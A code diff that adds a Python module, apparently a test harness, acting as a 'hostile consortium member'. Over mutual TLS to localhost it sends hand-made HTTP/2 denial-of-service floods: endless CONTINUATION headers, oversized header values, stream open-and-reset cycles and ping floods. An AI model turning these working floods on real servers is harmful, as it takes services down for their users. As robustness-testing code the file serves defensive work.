@@ -1,0 +1,110 @@
+"""A hostile member of the consortium: TLS with its own certificate, then HTTP/2 frames made by hand, as fast as they go."""
+
+import contextlib
+import os
+import socket
+import ssl
+import struct
+import threading
+import time
+from collections.abc import Iterator
+from itertools import count
+
+HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
+END_HEADERS = 4
+
+
+def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
+    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
+
+
+def _integer(number: int, bits: int) -> bytes:
+    """As header compression writes it."""
+    most = (1 << bits) - 1
+    if number < most:
+        return bytes([number])
+    rest, written = number - most, [most]
+    while rest >= 128:
+        written.append(rest % 128 + 128)
+        rest //= 128
+    return bytes([*written, rest])
+
+
+def field(name: bytes, value: bytes) -> bytes:
+    return b"\0" + _integer(len(name), 7) + name + _integer(len(value), 7) + value
+
+
+CALL = b"\x83\x87" + b"".join(
+    field(name, value)
+    for name, value in {
+        b":path": b"/parley.v1.Owner/Ask",
+        b":authority": b"a",
+        b"te": b"trailers",
+        b"content-type": b"application/grpc",
+    }.items()
+)
+
+
+def continued(first: bytes = CALL, more: bytes = field(b"x", b"v" * 4000) * 4) -> Iterator[bytes]:
+    """Headers that never end."""
+    yield frame(HEADERS, 0, 1, first)
+    while True:
+        yield frame(CONTINUATION, 0, 1, more)
+
+
+def small() -> Iterator[bytes]:
+    """The same in many small fields."""
+    yield from continued(more=field(b"x", b"") * 4000)
+
+
+def one_string() -> Iterator[bytes]:
+    """The same in one value of a gigabyte."""
+    yield from continued(CALL + b"\0" + _integer(1, 7) + b"x" + _integer(1 << 30, 7), b"v" * 16_000)
+
+
+def opened(more: bytes = field(b"x", b"v" * 3000)) -> Iterator[bytes]:
+    """Calls without a message, with large headers, as many as one likes."""
+    for stream in count(1, 2):
+        yield frame(HEADERS, END_HEADERS, stream, CALL + more)
+
+
+def taken_back() -> Iterator[bytes]:
+    """The same, each taken back at once: so no limit of calls that are open is ever reached."""
+    for stream, call in zip(count(1, 2), opened(), strict=False):
+        yield call + frame(RESET, 0, stream, struct.pack(">I", 8))
+
+
+def pings() -> Iterator[bytes]:
+    while True:
+        yield frame(PING, 0, 0, bytes(8)) * 500
+
+
+KINDS = {kind.__name__: kind for kind in (continued, small, one_string, opened, taken_back, pings)}
+
+
+def flood(kind: str, port: int, folder: str, member: str, lines: int, seconds: float) -> None:
+    """Send frames of this kind on so many lines; a line that is cut is opened again."""
+    os.nice(10)  # in the field the sender's cores are not the daemon's
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.load_verify_locations(f"{folder}/ca.crt")
+    context.load_cert_chain(f"{folder}/{member}.crt", f"{folder}/{member}.key")
+    context.set_alpn_protocols(["h2"])
+    until = time.monotonic() + seconds
+
+    def line() -> None:
+        while time.monotonic() < until:
+            with contextlib.suppress(OSError), context.wrap_socket(socket.create_connection(("127.0.0.1", port), 1)) as tls:
+                tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
+                for frames in KINDS[kind]():
+                    tls.sendall(frames)
+                    if time.monotonic() > until:
+                        break
+            time.sleep(0.01)
+
+    threads = [threading.Thread(target=line, daemon=True) for _ in range(lines)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(max(0.0, until + 3 - time.monotonic()))
+    os._exit(0)
